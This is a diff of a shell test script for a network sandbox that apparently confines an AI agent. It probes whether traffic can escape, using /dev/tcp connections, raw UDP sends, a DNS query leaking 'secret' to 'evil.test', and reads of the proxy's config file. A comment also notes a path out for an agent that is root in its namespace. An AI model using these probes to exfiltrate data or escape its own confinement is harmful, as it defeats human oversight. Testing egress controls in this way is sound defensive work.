@@ -33,17 +33,19 @@ ip -n world route add default via 93.184.0.1
 # As on a machine that has containers.
 sysctl -qw net.ipv4.ip_forward=1
 ip netns exec world python3 "$TESTS/world.py" 0.0.0.0 10.0.0.5 >"$TEMP/world" &
+world=$!
+until grep -qs ready "$TEMP/world"; do kill -0 $world; sleep 0.1; done
 
 "$EXAMPLE/up.sh" >"$TEMP/up" 2>"$TEMP/up.err" &
 up=$!
-for _ in {1..150}; do
-    grep -q '^up:' "$TEMP/up" && break
+# It gives up by itself.
+until grep -qs '^up:' "$TEMP/up"; do
     kill -0 $up 2>/dev/null || { cat "$TEMP/up.err" >&2; exit 1; }
     sleep 0.1
 done
-grep -q ready "$TEMP/world"
 
-agent() { timeout 15 "$EXAMPLE/run.sh" "$@"; }
+# INVARIANT: no deadline here is what makes a probe fail. Each only ends a script that hangs.
+agent() { timeout 120 "$EXAMPLE/run.sh" "$@"; }
 probe() {
     local name=$1 result
     shift
@@ -53,9 +55,9 @@ probe() {
 web() {
     local name=$1
     shift
-    probe "$name" curl -sS -m 5 -w ' %{http_code}' "$@"
+    probe "$name" curl -sS -m 60 -w ' %{http_code}' "$@"
 }
-open() { probe "$1" timeout 4 bash -c "exec 3<>$2 && echo -e 'GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n' >&3 && head -c 12 <&3"; }
+open() { probe "$1" timeout 60 bash -c "exec 3<>$2 && echo -e 'GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n' >&3 && head -c 12 <&3"; }
 
 web allowed http://allowed.test/
 web denied http://denied.test/
@@ -81,7 +83,7 @@ open ssh-of-the-machine /dev/tcp/10.213.38.1/22
 open health /dev/tcp/10.213.38.1/3101
 probe udp bash -c "echo x >/dev/udp/$WORLD/123; echo x >/dev/udp/$WORLD/443; sleep 0.3; echo sent"
 probe dns-elsewhere perl -MSocket -e '
-    socket(my $s, PF_INET, SOCK_DGRAM, 0); my $to = sockaddr_in(53, inet_aton($ARGV[0])); alarm 3;
+    socket(my $s, PF_INET, SOCK_DGRAM, 0); my $to = sockaddr_in(53, inet_aton($ARGV[0])); alarm 60;
     send($s, "\xab\xcd\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1", 0, $to); recv($s, my $answer, 512, 0);
     print inet_ntoa(substr($answer, -4))' $WORLD
 probe names getent ahostsv4 secret.evil.test
@@ -95,8 +97,8 @@ probe proxy-uid setpriv --reuid 1337 true
 probe key cat /run/sentinel-sentinel/envoy.yaml
 
 # An agent that is root in its namespace, which run.sh does not allow, has still one wire.
-root() { ip netns exec sentinel timeout 5 "$@"; }
-echo "probe root-forward: $(root curl -sS -m 3 -o /dev/null -w '%{http_code}' -H 'Host: denied.test' "http://$WORLD/" 2>&1 || true)"
+root() { ip netns exec sentinel timeout 120 "$@"; }
+echo "probe root-forward: $(root curl -sS -m 60 -o /dev/null -w '%{http_code}' -H 'Host: denied.test' "http://$WORLD/" 2>&1 || true)"
 echo "probe root-udp: $(root bash -c "echo x >/dev/udp/$WORLD/443" 2>&1; echo sent)"
 echo "probe root-icmp: $(root ping -c 1 -W 1 $WORLD 2>&1 | grep -c 'bytes from' || true)"
 
